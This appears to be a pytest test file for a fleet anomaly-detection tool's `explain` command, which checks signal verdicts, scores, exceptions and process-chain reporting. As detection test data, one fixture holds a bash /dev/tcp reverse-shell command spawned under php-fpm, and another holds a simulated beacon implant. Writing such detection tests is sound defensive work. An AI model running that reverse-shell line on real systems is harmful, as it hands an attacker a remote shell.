"""`rarenet explain`: the rule's verdict for one host and binary, in words and numbers,
and the grouping of one executable signalled on several hosts."""

from __future__ import annotations

import shutil
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner
from support.hand_fleet import ATTACK_AT, RUN_AT, SPAN
from support.osquery_lines import event, line, socket_line, socket_row
from support.stores import ingest_lines

from rarenet.baseline.cli import main
from rarenet.baseline.config import Config, load_config
from rarenet.baseline.detect.backtest import backtest
from rarenet.baseline.detect.decide import Outcome
from rarenet.baseline.detect.exceptions import Exception_, add_exception
from rarenet.baseline.detect.rule import detect_once
from rarenet.baseline.detect.why import why
from rarenet.baseline.simulate import SimulationSpec, simulate_to_path
from rarenet.baseline.store import Store

BEACON = "/tmp/.x/beacon"


def only(store: Store, config: Config, host: str, exe: str, at: int = RUN_AT) -> object:
    answer = why(store, config.detect, host, exe, at)
    assert len(answer.findings) == 1, answer.findings
    return answer.findings[0]


def test_before_and_after_the_run(hand_fleet_store: Store, config: Config) -> None:
    before = why(hand_fleet_store, config.detect, "web-05", BEACON, RUN_AT).findings[0]
    assert before.outcome is Outcome.SIGNALLED and "would be signalled now" in before.sentence
    assert hand_fleet_store.conn.execute("SELECT count(*) FROM signals").fetchone() == (
        0,
    )  # wrote none
    run = detect_once(hand_fleet_store, config.detect, RUN_AT)
    after = why(hand_fleet_store, config.detect, "web-05", BEACON, RUN_AT).findings[0]
    assert after.outcome is Outcome.EXISTS and after.signal == before.signal
    assert after.signal in {doc["id"] for doc in run.documents}


def test_below_threshold_shows_the_parts(hand_fleet_store: Store, config: Config) -> None:
    finding = why(hand_fleet_store, config.detect, "web-01", "/usr/sbin/nginx", RUN_AT).findings[0]
    assert finding.outcome is Outcome.BELOW and finding.score < 50
    assert f"scored {finding.score:g} < 50" in finding.sentence
    assert set(finding.explanation["parts"]) == {
        "rarity",
        "after_habit_and_location",
        "host_novelty",
    }


def test_excepted_by_which_rule(hand_fleet_store: Store, config: Config) -> None:
    number = add_exception(
        hand_fleet_store, Exception_(0, path_glob="/tmp/.x/*", reason="red team")
    ).id
    finding = why(hand_fleet_store, config.detect, "web-05", BEACON, RUN_AT).findings[0]
    assert finding.outcome is Outcome.EXCEPTED
    assert finding.sentence == f"excepted by exception #{number}: path /tmp/.x/* (red team)"


def test_a_rollout_host_names_the_rollouts_signal(hand_fleet_store: Store, config: Config) -> None:
    run = detect_once(hand_fleet_store, config.detect, RUN_AT)
    (rollout,) = [d for d in run.documents if d["kind"] == "rollout"]
    other = next(f"web-{i:02d}" for i in range(11, 20) if f"web-{i:02d}" != rollout["host"]["name"])
    finding = why(
        hand_fleet_store, config.detect, other, "/opt/acme/bin/acme-agent", RUN_AT
    ).findings[0]
    assert finding.outcome is Outcome.ROLLOUT and finding.signal == rollout["id"]
    assert rollout["host"]["name"] in finding.sentence


def test_not_used_in_the_window(hand_fleet_store: Store, config: Config) -> None:
    answer = why(hand_fleet_store, config.detect, "db-01", BEACON, RUN_AT)
    assert answer.findings == [] and answer.last_seen is None


def test_a_second_host_is_signalled_and_grouped_with_the_first(
    hand_fleet_store: Store, config: Config, tmp_path: Path
) -> None:
    """Suppression is per host and executable: the same implant on another host 2 hours
    later is its own signal, in the first one's group, naming it."""
    first = detect_once(hand_fleet_store, config.detect, RUN_AT)
    (leader,) = [d for d in first.documents if d["process"]["executable"] == BEACON]
    later = ATTACK_AT + 2 * 3600
    beacon = socket_line(
        "db-02", later, pid=4242, name="beacon", path=BEACON, remote_address="203.0.113.99"
    )
    ingest_lines(hand_fleet_store, [beacon], tmp_path / "beacon-db-02.log")
    at = later - later % SPAN + 2 * SPAN
    run = detect_once(hand_fleet_store, config.detect, at)
    (second,) = [d for d in run.documents if d["process"]["executable"] == BEACON]
    assert second["host"]["name"] == "db-02" and second["group"] == leader["id"]
    assert "also on 1 other host since" in second["reason"] and "web-05" in second["reason"]
    assert second["explanation"]["group"]["hosts"][0]["signal"] == leader["id"]
    finding = why(hand_fleet_store, config.detect, "db-02", BEACON, at).findings[0]
    assert finding.outcome is Outcome.EXISTS and finding.group == leader["id"]
    assert [m["host"] for m in finding.others] == ["web-05"]
    assert finding.reason == second["reason"] and finding.score == second["score"]
    # the first host's explanation at its run is what that run said: db-02 came later
    back = why(hand_fleet_store, config.detect, "web-05", BEACON, RUN_AT).findings[0]
    assert back.others == [] and back.reason == leader["reason"]
    stored = hand_fleet_store.conn.execute(
        "SELECT count(*), count(DISTINCT group_id) FROM signals WHERE path = ?", (BEACON,)
    ).fetchone()
    assert stored == (2, 1)


def test_cli_json_and_text(hand_fleet_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "cli.db"
    shutil.copy(hand_fleet_db, db)
    args = ["explain", "--db", str(db), "web-07", "/usr/bin/bash", "--at", str(RUN_AT)]
    result = CliRunner().invoke(main, [*args, "--json"])
    assert result.exit_code == 0, result.output
    document = orjson.loads(result.stdout)
    (finding,) = document["findings"]
    assert finding["outcome"] == "signalled" and finding["explanation"]["decided_by"] == (
        "host novelty"
    )
    text = CliRunner().invoke(main, args)
    assert text.exit_code == 0 and "would be signalled now" in text.stdout
    assert "parts: rarity" in text.stdout
    bad = CliRunner().invoke(main, ["explain", "--db", str(db), "web-07", "bash", "--at", "soon"])
    assert bad.exit_code == 2 and "--at" in bad.output


def test_a_child_holding_the_shells_socket_names_the_shell(
    hand_fleet_store: Store, config: Config, tmp_path: Path
) -> None:
    """osquery names one holder per socket (often the child): the chain names the shell."""
    shell = "bash -c exec 3<>/dev/tcp/203.0.113.50/4444; sleep 600"
    row = socket_row(
        pid=5001,
        name="sleep",
        path="/usr/bin/sleep",
        cmdline="sleep 600",
        remote_address="203.0.113.50",
        parent=5000,
        parent_name="bash",
        parent_path="/usr/bin/bash",
        parent_cmdline=shell,
        grandparent=4000,
        grandparent_name="php-fpm8.2",
        grandparent_path="/usr/sbin/php-fpm8.2",
        grandparent_cmdline="php-fpm: pool www",
        great_grandparent=1,
        great_grandparent_name="systemd",
        great_grandparent_path="/usr/lib/systemd/systemd",
        great_grandparent_cmdline="/sbin/init",
    )
    child = line(event(row, host="web-03", unix=ATTACK_AT + 50))
    ingest_lines(hand_fleet_store, [child], tmp_path / "child.log")
    run = detect_once(hand_fleet_store, config.detect, RUN_AT)
    (doc,) = [d for d in run.documents if d["process"]["name"] == "sleep"]
    assert f"held by a child of the shell bash (pid 5000): {shell}" in doc["reason"]
    assert doc["process"]["parent"] == {
        "pid": 5000,
        "name": "bash",
        "executable": "/usr/bin/bash",
        "command_line": shell,
    }
    assert [(a["pid"], a["name"]) for a in doc["process"]["chain"]] == [
        (5000, "bash"),
        (4000, "php-fpm8.2"),
        (1, "systemd"),
    ]
    assert doc["explanation"]["lineage"]["shell"]["executable"] == "/usr/bin/bash"
    finding = why(hand_fleet_store, config.detect, "web-03", "/usr/bin/sleep", RUN_AT).findings[0]
    assert "held by a child of the shell bash" in finding.reason


def test_ancestor_columns_are_checked_like_any_field(tmp_path: Path) -> None:
    from rarenet.baseline.ingest.normalise import Normaliser
    from rarenet.baseline.ingest.parser import Parser

    parser = Parser(Normaliser())
    bad = parser.parse_line(line(event(socket_row(parent_path="/x", grandparent="many"))))
    assert bad.observations == [] and "grandparent" in bad.errors[0]
    old = parser.parse_line(line(event(socket_row())))
    assert old.observations[0].ancestors == ""  # older packs: parent pid and name only


@pytest.mark.slow
@pytest.mark.parametrize("seed", [5, 6])
def test_explain_at_its_run_says_every_stored_signal_word_for_word(
    tmp_path: Path, seed: int
) -> None:
    """One evaluation: on a simulated fleet with every scenario family (rollouts,
    groups, returns, child shells), `explain` at the run that raised each signal gives
    its verdict, score, reason and explanation exactly as stored."""
    log, labels = tmp_path / "fleet.log.gz", tmp_path / "labels.jsonl"
    spec = SimulationSpec(hosts=20, days=3, attacks=True, seed=seed, scenarios="all")
    simulate_to_path(spec, log, labels)
    config = load_config(None, env={})
    replayed = tmp_path / "replay.db"
    result = backtest([str(log)], config, labels_path=str(labels), replay_path=replayed)
    assert len(result.signals) >= 10
    with Store(replayed) as store:
        stored = store.conn.execute(
            "SELECT s.id, s.host, s.path, s.name, s.kind, r.window_end "
            "FROM signals AS s JOIN runs AS r ON r.id = s.run_id"
        ).fetchall()
        kinds = {kind for *_, kind, _ in stored}
        assert kinds == {"host", "rollout"}, kinds
        for sid, host, path, name, _kind, at in stored:
            doc = next(d for d in result.signals if d["id"] == sid)
            answer = why(store, config.detect, host, path or name, at, refresh=False)
            (finding,) = [f for f in answer.findings if f.signal == sid]
            assert finding.outcome is Outcome.EXISTS, (sid, finding.sentence)
            assert finding.score == doc["score"], sid
            assert finding.reason == doc["reason"], sid
            assert finding.explanation == doc["explanation"], sid
